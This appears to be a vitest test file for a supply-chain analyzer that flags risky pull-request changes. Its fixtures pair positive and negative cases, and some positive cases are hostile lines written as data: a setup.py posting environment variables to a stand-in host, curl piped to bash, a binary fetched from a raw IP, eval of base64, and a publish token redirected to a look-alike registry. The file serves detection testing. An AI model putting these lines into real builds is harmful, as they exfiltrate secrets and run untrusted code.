import { describe, expect, it } from 'vitest';
import { MAX_TRANSITIVE_CHANGES } from '../../src/analyzers/supply-chain.js';
import type { PrSnapshot, SnapshotDependencyChange, SnapshotFile } from '../../src/snapshot/pr-snapshot.js';
import { makeCommit, makeFile, makeSnapshot } from '../support/snapshot-factory.js';
const lines = (...l: string[]): string => l.join('\n');
import { analyze, change, ids, pkg, snapshotOf } from '../support/supply-chain-snapshot.js';
import type { Change } from '../support/supply-chain-snapshot.js';

/** Dependabot's PR bumping express, with its commit signed by GitHub or not. */
function dependabotPr(verified: boolean): PrSnapshot {
  const bot = { login: 'dependabot[bot]', type: 'Bot' };
  const commit = makeCommit({ authorName: 'dependabot[bot]', authorEmail: '49699333+dependabot[bot]@users.noreply.github.com', author: bot, committer: bot, verified });
  return { ...snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.21.0' } }))), author: bot, commits: [commit] };
}

interface LockEntry {
  version: string;
  resolved?: string;
  integrity?: string;
  dev?: boolean;
  hasInstallScript?: boolean;
}

function npmLock(direct: string[], entries: Record<string, LockEntry>): string {
  const packages: Record<string, unknown> = { '': { name: 'app', dependencies: Object.fromEntries(direct.map((d) => [d, '*'])) } };
  for (const [name, entry] of Object.entries(entries)) {
    packages[`node_modules/${name}`] = {
      resolved: `https://registry.npmjs.org/${name}/-/${name}-${entry.version}.tgz`,
      integrity: `sha512-${name}-${entry.version}`,
      ...entry,
    };
  }
  return JSON.stringify({ name: 'app', lockfileVersion: 3, requires: true, packages }, null, 2);
}

const workflow = (body: string): string => body.replace(/^\n/, '');

const SHA = '0123456789abcdef0123456789abcdef01234567';

interface Case {
  readonly id: string;
  readonly positive: () => PrSnapshot;
  readonly negative: () => PrSnapshot;
}

/**
 * Workflow and automation finding ids whose positive and negative cases are in
 * test/ecosystems/github-actions/rules.test.ts and test/ecosystems/automation/automation.test.ts.
 */
const documentedWorkflowIds = [
  'vscode-folder-open-task', 'vscode-settings-executable', 'devcontainer-lifecycle-command', 'git-hook-command', 'pre-commit-remote-hook', 'pre-commit-rev-moved', 'git-submodule',
  'git-submodule-moved', 'dependabot-external-code-execution', 'dependabot-registry', 'renovate-automerge', 'renovate-post-upgrade-command',
  'codeowners-weakened', 'pr-metadata-shell-payload',
  'gha-github-env', 'gha-dangerous-trigger', 'gha-artifact-poisoning', 'gha-cache-poisoning', 'gha-secrets-exfiltration', 'gha-overprovisioned-secrets',
  'gha-unredacted-secrets', 'gha-secrets-inherit', 'gha-known-vulnerable-action', 'gha-insecure-commands', 'gha-bot-condition', 'gha-unsound-contains',
  'gha-unsound-condition', 'gha-container-credentials', 'gha-artipacked', 'gha-ref-version-mismatch',
  // test/ecosystems/github-actions/audit-parity.test.ts and test/ecosystems/automation/automation-parity.test.ts
  'gha-obfuscation', 'gha-archived-action', 'gha-superfluous-action', 'gha-unpinned-tool', 'gha-use-trusted-publishing', 'gha-misfeature',
  'gha-github-app-token', 'gha-unsound-ternary', 'gha-typosquat-action', 'pre-commit-archived-repo', 'insecure-url-scheme', 'git-submodule-pointer-moved',
  'dependabot-cooldown',
  // test/analyzers/check-gitattributes.test.ts
  'gitattributes-hides-change',
  // test/ecosystems/automation/automation.test.ts
  'repo-settings-weakened', 'meson-wrap-source-changed',
];

/** The online workflow audits: their cases are in test/ecosystems/github-actions/online-action-rules.test.ts. */
const onlineWorkflowIds = ['gha-impostor-commit', 'gha-stale-action-ref', 'gha-ref-confusion', 'gha-action-advisory'];

const movedLock = (entry: Partial<LockEntry>): string => npmLock(['ms'], { ms: { version: '2.1.3', ...entry } });

const CASES: Case[] = [
  {
    id: 'install-script-added',
    positive: () => snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1', hasInstallScript: true } }))),
    negative: () =>
      snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0', hasInstallScript: true } }), npmLock(['a'], { a: { version: '1.0.1', hasInstallScript: true } }))),
  },
  {
    id: 'lockfile-integrity-removed',
    positive: () => snapshotOf(change('package-lock.json', movedLock({}), movedLock({ integrity: '' }))),
    negative: () => snapshotOf(change('package-lock.json', movedLock({ integrity: '' }), movedLock({ integrity: '', dev: true }))),
  },
  {
    id: 'lockfile-source-changed',
    positive: () =>
      snapshotOf(
        change(
          'package-lock.json',
          npmLock(['ms', 'b'], { ms: { version: '2.1.3' }, b: { version: '1.0.0', resolved: 'https://npm.corp.example/b-1.0.0.tgz' } }),
          npmLock(['ms', 'b'], { ms: { version: '2.1.3', resolved: 'https://npm.corp.example/ms-2.1.3.tgz' }, b: { version: '1.0.0', resolved: 'https://npm.corp.example/b-1.0.0.tgz' } }),
        ),
      ),
    negative: () => snapshotOf(change('package-lock.json', movedLock({}), movedLock({ resolved: 'https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz' }))),
  },
  {
    id: 'npm-install-script',
    positive: () => snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', postinstall: 'node x.js' } }))),
    negative: () => snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest run', lint: 'eslint .' } }))),
  },
  {
    id: 'package-gate-waived',
    positive: () => snapshotOf(change('pnpm-workspace.yaml', 'packages:\n  - packages/*\nminimumReleaseAge: 10080\n', 'packages:\n  - packages/*\nminimumReleaseAge: 10080\nminimumReleaseAgeExclude:\n  - pnpm@11.13.0\n')),
    negative: () => snapshotOf(change('pnpm-workspace.yaml', 'packages:\n  - packages/*\n', 'packages:\n  - packages/*\nminimumReleaseAgeExclude:\n  - pnpm@11.13.0\n')),
  },
  {
    id: 'package-gate-weakened',
    positive: () => snapshotOf(change('pnpm-workspace.yaml', 'packages:\n  - packages/*\nminimumReleaseAge: 10080\n', 'packages:\n  - packages/*\nminimumReleaseAge: 30\n')),
    negative: () => snapshotOf(change('pnpm-workspace.yaml', 'packages:\n  - packages/*\nminimumReleaseAge: 1440\n', 'packages:\n  - packages/*\nminimumReleaseAge: 10080\n')),
  },
  {
    id: 'composer-install-script',
    positive: () =>
      snapshotOf(change('composer.json', JSON.stringify({ require: {} }), JSON.stringify({ require: {}, scripts: { 'post-install-cmd': ['php bin/setup.php'] } }))),
    negative: () => snapshotOf(change('composer.json', JSON.stringify({ require: {} }), JSON.stringify({ require: {}, scripts: { test: 'phpunit' } }))),
  },
  {
    id: 'python-setup-script',
    positive: () =>
      snapshotOf(
        change(
          'setup.py',
          'from setuptools import setup\nsetup(name="x")\n',
          'from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\nsetup(name="x", cmdclass={"install": Post})\n',
        ),
      ),
    negative: () => snapshotOf(change('setup.py', 'from setuptools import setup\nsetup(name="x")\n', 'from setuptools import setup\nsetup(name="x", version="2")\n')),
  },
  {
    id: 'cargo-build-script',
    positive: () => snapshotOf(makeFile('crates/sys/build.rs', { status: 'added' })),
    negative: () => snapshotOf(makeFile('crates/sys/build.rs', { status: 'modified' }), makeFile('src/build.ts', { status: 'added' })),
  },
  {
    id: 'build-code-behavior',
    positive: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os, requests\n+requests.post("https://collect.example.net/", json=dict(os.environ))' })),
    negative: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os\n+os.environ.setdefault("CFLAGS", "-O2")' })),
  },
  {
    id: 'security-probe-broken',
    // The xz-utils Landlock check of 2024: one '.' in CMakeLists.txt's test program.
    positive: () =>
      snapshotOf(
        makeFile('CMakeLists.txt', {
          patch: '@@ -5,6 +5,7 @@ check_c_source_compiles("\n     #include <linux/landlock.h>\n     #include <sys/syscall.h>\n     #include <sys/prctl.h>\n+.\n     void my_sandbox(void)\n     {\n         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);',
        }),
      ),
    // A real line added to the same test, a Meson seccomp test whose text closes with ''', and a stray line in a test of no security feature.
    negative: () =>
      snapshotOf(
        makeFile('CMakeLists.txt', {
          patch: '@@ -5,6 +5,7 @@ check_c_source_compiles("\n     #include <linux/landlock.h>\n     #include <sys/syscall.h>\n     #include <sys/prctl.h>\n+    #include <linux/types.h>\n     void my_sandbox(void)\n     {\n         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);',
        }),
        makeFile('meson.build', { status: 'added', patch: "@@ -0,0 +1,4 @@\n+have_seccomp = cc.links('''\n+#include <seccomp.h>\n+int main(void) { return seccomp_init(0) == 0; }\n+''', dependencies: seccomp_dep)" }),
        makeFile('cmake/Checks.cmake', { patch: '@@ -1,3 +1,4 @@\n check_c_source_compiles("\n #include <string.h>\n+.\n int main(void) { char b[4]; return strlcpy(b, \\"x\\", 4) > 0 ? 0 : 1; }" HAVE_STRLCPY)' }),
      ),
  },
  {
    id: 'build-wrapper-changed',
    positive: () =>
      snapshotOf(
        makeFile('gradle/wrapper/gradle-wrapper.properties', {
          patch: '@@ -1,2 +1,2 @@\n distributionBase=GRADLE_USER_HOME\n-distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n+distributionUrl=https\\://gradle.example-cdn.net/gradle-8.10-bin.zip',
        }),
      ),
    negative: () =>
      snapshotOf(
        makeFile('gradle/wrapper/gradle-wrapper.properties', {
          patch: '@@ -1,2 +1,2 @@\n distributionBase=GRADLE_USER_HOME\n-distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip\n+distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip',
        }),
        makeFile('gradle/wrapper/gradle-wrapper.jar', { status: 'modified', patch: null }),
      ),
  },
  {
    id: 'automation-commit-unverified',
    // test/analyzers/automation-commits.test.ts has the rest (re-committed, GHES, merges, other bots).
    positive: () => ({ ...dependabotPr(false), url: 'https://github.com/acme/widgets/pull/42' }),
    negative: () => ({ ...dependabotPr(true), url: 'https://github.com/acme/widgets/pull/42' }),
  },
  {
    id: 'pth-file-code',
    positive: () => snapshotOf(makeFile('src/pkg_hook.pth', { status: 'added', patch: '@@ -0,0 +1,1 @@\n+import os; os.system("python -m pkg.agent &")' })),
    negative: () => snapshotOf(makeFile('src/pkg_paths.pth', { status: 'added', patch: '@@ -0,0 +1,1 @@\n+../vendor' })),
  },
  {
    id: 'typosquat',
    positive: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', expresss: '^1.0.0' } }))),
    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', lodash: '^4.17.21', '@acme/expresss': '^1.0.0' } }))),
  },
  {
    id: 'lockfile-without-manifest',
    positive: () => snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1' } }))),
    negative: () =>
      snapshotOf(
        change('package.json', pkg({ dependencies: { a: '^1.0.0' } }), pkg({ dependencies: { a: '^1.0.1' } })),
        change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1' } })),
      ),
  },
  {
    id: 'pip-extra-index',
    positive: () => snapshotOf(change('requirements.txt', 'requests==2.31.0\n', '--extra-index-url https://pypi.corp.example/simple\nrequests==2.31.0\n')),
    negative: () =>
      snapshotOf(
        change('requirements.txt', '--extra-index-url https://pypi.corp.example/simple\nrequests==2.31.0\n', '-i https://pypi.org/simple\n--extra-index-url=https://pypi.corp.example/simple\nrequests==2.32.0\n'),
        change('pyproject.toml', '[project]\nname = "app"\n', '[project]\nname = "app"\n\n[[tool.uv.index]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\nexplicit = true\n'),
      ),
  },
  {
    id: 'npm-registry-override',
    positive: () => snapshotOf(change('.npmrc', null, 'registry=https://npm.corp.example/\n')),
    negative: () =>
      snapshotOf(change('.npmrc', '@acme:registry=https://npm.pkg.github.com\n', '@acme:registry=https://npm.pkg.github.com\nregistry=https://registry.npmjs.org/\nsave-exact=true\n')),
  },
  {
    id: 'cargo-source-override',
    positive: () => snapshotOf(change('.cargo/config.toml', '[build]\n', '[build]\n[source.crates-io]\nreplace-with = "mirror"\n[source.mirror]\nregistry = "sparse+https://crates.acme-mirror.dev/index/"\n')),
    negative: () => snapshotOf(change('.cargo/config.toml', '[build]\n', '[build]\n[source.crates-io]\nreplace-with = "vendored-sources"\n[source.vendored-sources]\ndirectory = "vendor"\n')),
  },
  {
    id: 'gem-source-override',
    positive: () => snapshotOf(change('Gemfile', "source 'https://rubygems.org'\ngem 'rest-client', '~> 2.1'\n", "source 'https://rubygems.org'\nsource 'https://gems.rubyg3ms.net' do\n  gem 'rest-client', '~> 2.1'\nend\n")),
    negative: () => snapshotOf(change('Gemfile', "source 'https://rubygems.org'\ngem 'rest-client', '~> 2.1'\n", "source 'https://rubygems.org'\ngem 'rest-client', '~> 2.2'\n")),
  },
  {
    id: 'composer-repository-override',
    positive: () => snapshotOf(change('composer.json', '{"name":"acme/fast","require":{"guzzlehttp/guzzle":"^7.8"}}\n', '{"name":"acme/fast","repositories":[{"type":"vcs","url":"https://github.com/guzzle-http/guzzle"}],"require":{"guzzlehttp/guzzle":"dev-main"}}\n')),
    negative: () => snapshotOf(change('composer.json', '{"name":"acme/fast","require":{"guzzlehttp/guzzle":"^7.8"}}\n', '{"name":"acme/fast","repositories":[{"type":"path","url":"../packages/*"}],"require":{"guzzlehttp/guzzle":"^7.9"}}\n')),
  },
  {
    id: 'npm-config-runs-code',
    positive: () => snapshotOf(change('.npmrc', 'save-exact=true\n', 'save-exact=true\nnode-options=--require ./scripts/telemetry.cjs\n'), change('packages/web/.npmrc', null, 'script-shell=./tools/run.sh\n')),
    negative: () =>
      snapshotOf(
        change('.npmrc', 'save-exact=true\n', 'save-exact=true\nnode-options=--max-old-space-size=8192 --openssl-legacy-provider\nscript-shell=bash\n'),
        change('packages/web/.npmrc', 'node-options=--require ./setup.cjs\n', 'node-options=--require ./setup.cjs\nengine-strict=true\n'),
      ),
  },
  {
    id: 'maven-repository-override',
    positive: () => snapshotOf(change('.mvn/settings.xml', null, '<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>https://maven.acme-mirror.dev/repo</url></mirror></mirrors></settings>\n')),
    negative: () =>
      snapshotOf(
        change(
          'pom.xml',
          '<project><groupId>a</groupId><artifactId>b</artifactId><version>1</version><repositories><repository><id>corp</id><url>https://nexus.corp.example/repo</url></repository></repositories></project>\n',
          '<project><groupId>a</groupId><artifactId>b</artifactId><version>1</version><repositories><repository><id>corp</id><url>https://nexus.corp.example/repo</url></repository><repository><id>spring</id><url>https://repo.spring.io/milestone</url></repository></repositories></project>\n',
        ),
      ),
  },
  {
    id: 'nuget-source-override',
    positive: () => snapshotOf(change('nuget.config', null, '<configuration><packageSources><add key="corp" value="https://nuget.corp.example/v3/index.json" /></packageSources></configuration>\n')),
    negative: () =>
      snapshotOf(
        change(
          'nuget.config',
          '<configuration><packageSources><add key="corp" value="https://nuget.corp.example/v3/index.json" /></packageSources></configuration>\n',
          '<configuration><packageSources><add key="corp" value="https://nuget.corp.example/v3/index.json" /><add key="local" value="./packages" /></packageSources></configuration>\n',
        ),
      ),
  },
  {
    id: 'lockfile-foreign-host',
    positive: () =>
      snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1', resolved: 'https://npm.evil.example/a-1.0.1.tgz' } }))),
    negative: () =>
      snapshotOf(
        change(
          'package-lock.json',
          npmLock(['a', 'b'], { a: { version: '1.0.0' }, b: { version: '1.0.0', resolved: 'https://npm.corp.example/b-1.0.0.tgz' } }),
          npmLock(['a', 'b'], { a: { version: '1.0.1' }, b: { version: '1.1.0', resolved: 'https://npm.corp.example/b-1.1.0.tgz' } }),
        ),
      ),
  },
  {
    id: 'lockfile-integrity-changed',
    positive: () =>
      snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0', integrity: 'sha512-old' } }), npmLock(['a'], { a: { version: '1.0.0', integrity: 'sha512-new' } }))),
    negative: () =>
      snapshotOf(
        change(
          'package-lock.json',
          npmLock(['a', 'b'], { a: { version: '1.0.0', integrity: 'sha1-old' }, b: { version: '1.0.0', integrity: 'sha512-b1' } }),
          npmLock(['a', 'b'], { a: { version: '1.0.0', integrity: 'sha512-new' }, b: { version: '2.0.0', integrity: 'sha512-b2' } }),
        ),
      ),
  },
  {
    id: 'lockfile-large-change',
    positive: () => {
      const entries: Record<string, LockEntry> = {};
      for (let i = 0; i <= MAX_TRANSITIVE_CHANGES; i += 1) entries[`dep-${i}`] = { version: '1.0.0' };
      return snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], entries)));
    },
    negative: () => snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], { a: { version: '1.0.0' }, b: { version: '1.0.0' } }))),
  },
  {
    id: 'git-dependency',
    positive: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'github:someone/mine#main' } }))),
    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { mine: 'github:someone/mine#main' } }), pkg({ dependencies: { mine: 'github:someone/mine#main', b: '^1.0.0' } }))),
  },
  {
    id: 'url-dependency',
    positive: () => snapshotOf(change('requirements.txt', 'requests==2.31.0\n', 'requests==2.31.0\nhttps://example.com/pkgs/tool-1.0.tar.gz#egg=tool\n')),
    negative: () => snapshotOf(change('requirements.txt', 'requests==2.31.0\n', 'requests==2.32.0\n')),
  },
  {
    id: 'path-dependency',
    positive: () => snapshotOf(change('Cargo.toml', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\nlocal = { path = "../local" }\n')),
    negative: () => snapshotOf(change('Cargo.toml', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n', '[package]\nname = "x"\n\n[dependencies]\nserde = "1.0.200"\n')),
  },
  {
    id: 'go-replace',
    positive: () =>
      snapshotOf(
        change(
          'go.mod',
          'module example.com/app\n\ngo 1.22\n\nrequire github.com/sirupsen/logrus v1.9.3\n',
          'module example.com/app\n\ngo 1.22\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/sirupsen/logrus => github.com/someone/logrus v1.9.4\n',
        ),
      ),
    negative: () =>
      snapshotOf(
        change(
          'go.mod',
          'module example.com/app\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/x/y => ../y\n',
          'module example.com/app\n\nrequire github.com/sirupsen/logrus v1.9.4\n\nreplace github.com/x/y => ../y\n',
        ),
      ),
  },
  {
    // test/ecosystems/swiftpm/findings.test.ts has the other shapes (look-alike owners, Package.resolved alone).
    id: 'swift-package-moved',
    positive: () =>
      snapshotOf(
        change(
          'Package.swift',
          'let package = Package(name: "App", dependencies: [.package(url: "https://github.com/apple/swift-nio.git", from: "2.58.0")])\n',
          'let package = Package(name: "App", dependencies: [.package(url: "https://github.com/acme-forks/swift-nio.git", from: "2.58.0")])\n',
        ),
      ),
    negative: () =>
      snapshotOf(
        change(
          'Package.swift',
          'let package = Package(name: "App", dependencies: [.package(url: "https://github.com/apple/swift-nio.git", from: "2.58.0")])\n',
          'let package = Package(name: "App", dependencies: [.package(url: "https://github.com/apple/swift-nio", from: "2.59.0")])\n',
        ),
      ),
  },
  {
    id: 'dependency-downgrade',
    positive: () => snapshotOf(change('package.json', pkg({ dependencies: { a: '^2.1.0' } }), pkg({ dependencies: { a: '^1.9.0' } }))),
    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { a: '^1.9.0' } }), pkg({ dependencies: { a: '^2.1.0' } }))),
  },
  {
    id: 'unbounded-version',
    positive: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '*' } }))),
    negative: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '^1.0.0' }, peerDependencies: { react: '*' } }))),
  },
  {
    id: 'binary-artifact',
    positive: () => snapshotOf(makeFile('tools/helper.jar', { status: 'added' })),
    negative: () => snapshotOf(makeFile('docs/logo.png', { status: 'added' }), makeFile('tools/helper.jar', { status: 'removed' })),
  },
  {
    id: 'obfuscated-code',
    positive: () => snapshotOf(makeFile('src/index.js', { patch: `@@ -1,2 +1,3 @@\n const a = 1;\n+eval(Buffer.from("${'QUJD'.repeat(50)}", "base64").toString());\n const b = 2;` })),
    negative: () =>
      snapshotOf(
        makeFile('src/index.js', { patch: `@@ -1,1 +1,2 @@\n const a = 1;\n+const logo = "${'QUJD'.repeat(50)}";` }),
        // A bundle rebuilt with the source: a block the bundler moved is not new (a payload added there is, generated-code-edited).
        makeFile('dist/index.js', { patch: `@@ -1,2 +1,2 @@\n-eval(atob("aGVsbG8="));\n x\n+eval(atob("aGVsbG8="));` }),
      ),
  },
  {
    id: 'minified-source',
    positive: () => snapshotOf(makeFile('src/util.ts', { patch: `@@ -0,0 +1,1 @@\n+${'var a=1;'.repeat(200)}` })),
    negative: () => snapshotOf(makeFile('vendor/lib.js', { patch: `@@ -0,0 +1,1 @@\n+${'var a=1;'.repeat(200)}` }), makeFile('src/util.ts', { patch: '@@ -0,0 +1,1 @@\n+export const a = 1;' })),
  },
  {
    id: 'vulnerable-dependency',
    positive: () => makeSnapshot({ dependencyChanges: [reviewChange('added', [{ severity: 'high', advisoryGhsaId: 'GHSA-aaaa-bbbb-cccc', advisorySummary: 'Prototype pollution', advisoryUrl: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc' }])] }),
    negative: () => makeSnapshot({ dependencyChanges: [reviewChange('added', []), reviewChange('removed', [{ severity: 'high', advisoryGhsaId: 'GHSA-x', advisorySummary: 's', advisoryUrl: 'u' }])] }),
  },
  {
    id: 'dependency-license',
    positive: () => makeSnapshot({ dependencyChanges: [{ ...reviewChange('added', []), license: 'AGPL-3.0-only' }] }),
    negative: () => makeSnapshot({ dependencyChanges: [{ ...reviewChange('added', []), license: 'MIT' }, { ...reviewChange('added', []), name: 'gpl-dev-tool', license: 'GPL-3.0', scope: 'development' }] }),
  },
  {
    id: 'gha-pr-target-checkout',
    positive: () =>
      snapshotOf(
        change(
          '.github/workflows/pr.yml',
          null,
          workflow(`
on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`),
        ),
      ),
    negative: () =>
      snapshotOf(
        change(
          '.github/workflows/pr.yml',
          null,
          workflow(`
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`),
        ),
        change('.github/workflows/label.yml', null, workflow(`
on: pull_request_target
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/labeler@${SHA}
`)),
      ),
  },
  {
    id: 'gha-template-injection',
    positive: () =>
      snapshotOf(change('.github/workflows/greet.yml', null, workflow(`
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}"
`))),
    negative: () =>
      snapshotOf(change('.github/workflows/greet.yml', null, workflow(`
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE #\${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
`))),
  },
  {
    id: 'gha-excessive-permissions',
    positive: () =>
      snapshotOf(change('.github/workflows/ci.yml', workflow(`
on: push
permissions:
  contents: read
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: make
`), workflow(`
on: push
permissions: write-all
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: make
`))),
    negative: () =>
      snapshotOf(change('.github/workflows/ci.yml', workflow(`
on: push
permissions:
  contents: write
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: make
`), workflow(`
on: push
permissions:
  contents: write
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`))),
  },
  {
    id: 'gha-unpinned-action',
    positive: () =>
      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/deploy-action@v2
`))),
    negative: () =>
      snapshotOf(change('.github/workflows/ci.yml', workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/deploy-action@v2
`), workflow(`
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/deploy-action@v2
      - uses: other-org/tool@${SHA} # v1.2.3
      - uses: ./.github/actions/local
`))),
  },
  {
    id: 'gha-pr-target-secrets',
    positive: () =>
      snapshotOf(change('.github/workflows/pr.yml', null, workflow(`
on: workflow_run
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
      - run: ./deploy.sh
        env:
          TOKEN: \${{ secrets.DEPLOY_TOKEN }}
`))),
    negative: () =>
      snapshotOf(change('.github/workflows/pr.yml', null, workflow(`
on: pull_request_target
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${SHA}
      - run: ./comment.sh
        env:
          TOKEN: \${{ secrets.BOT_TOKEN }}
`))),
  },
  {
    id: 'gha-self-hosted-runner',
    positive: () =>
      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
on: [push, pull_request]
jobs:
  a:
    runs-on: [self-hosted, linux]
    steps:
      - run: make
`))),
    negative: () =>
      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
on:
  push:
    branches: [main]
jobs:
  a:
    runs-on: self-hosted
    steps:
      - run: make
`))),
  },
  {
    id: 'curl-pipe-shell',
    positive: () => snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSL https://get.example.com/install.sh \\\n  | bash -s -- --yes\n')),
    negative: () =>
      snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSLo install.sh https://get.example.com/install.sh && sha256sum -c sums && sh install.sh\n')),
  },
  {
    id: 'ci-template-injection',
    // test/ecosystems/automation/pipeline-injection.test.ts has the Azure, CircleCI, Buildkite and GitLab shapes.
    positive: () => snapshotOf(change('.circleci/config.yml', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n      - run: ./tag.sh "<< pipeline.git.branch >>"\n')),
    negative: () => snapshotOf(change('.circleci/config.yml', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n', 'version: 2.1\njobs:\n  build:\n    steps:\n      - run: make\n      - run: ./tag.sh "$CIRCLE_BRANCH"\n')),
  },
  {
    id: 'publish-token-redirect',
    positive: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n-npm publish\n+echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc\n+npm publish --registry https://npm.registry-cdn.dev/' })),
    negative: () => snapshotOf(makeFile('scripts/release.sh', { patch: '@@ -1,2 +1,3 @@\n #!/bin/sh\n+echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\n npm publish' })),
  },
  {
    id: 'downloaded-binary-run',
    // test/ecosystems/shell/download-run.test.ts has the workflow, script and ADD shapes.
    positive: () => snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -sLo /usr/local/bin/h http://185.199.1.2/h && chmod +x /usr/local/bin/h\nRUN npm ci\n')),
    negative: () =>
      snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nADD https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini\nRUN chmod +x /tini && npm ci\n')),
  },
  {
    id: 'go-run-unpinned',
    // test/ecosystems/shell/script-downloads.test.ts has the Makefile, script, CI and pinned shapes.
    positive: () => snapshotOf(makeFile('internal/store/store.go', { patch: '@@ -1,1 +1,3 @@\n package store\n+\n+//go:generate go run github.com/mock-tools/mockgen@master -source=store.go' })),
    negative: () => snapshotOf(makeFile('internal/store/store.go', { patch: '@@ -1,1 +1,4 @@\n package store\n+\n+//go:generate go run github.com/mock-tools/mockgen@v1.6.0 -source=store.go\n+//go:generate go run ./internal/gen' })),
  },
  {
    id: 'remote-package-install',
    // test/ecosystems/shell/remote-installs.test.ts has the script, pipeline, ADD, pinned and graded shapes.
    positive: () => snapshotOf(change('Dockerfile', `FROM python:3.12@sha256:${'a'.repeat(64)}\nRUN pip install -r requirements.txt\n`, `FROM python:3.12@sha256:${'a'.repeat(64)}\nRUN pip install -r requirements.txt\nRUN pip install git+https://github.com/someone/pkg\n`)),
    // The install the base already had (an unchanged line), and a pinned one the PR adds.
    negative: () =>
      snapshotOf(
        change(
          'Dockerfile',
          `FROM python:3.12@sha256:${'a'.repeat(64)}\nRUN pip install git+https://github.com/someone/pkg\n`,
          `FROM python:3.12@sha256:${'a'.repeat(64)}\nRUN pip install git+https://github.com/someone/pkg\nRUN pip install git+https://github.com/someone/other@${'b'.repeat(40)}\nRUN go install ./cmd/...\n`,
        ),
      ),
  },
  {
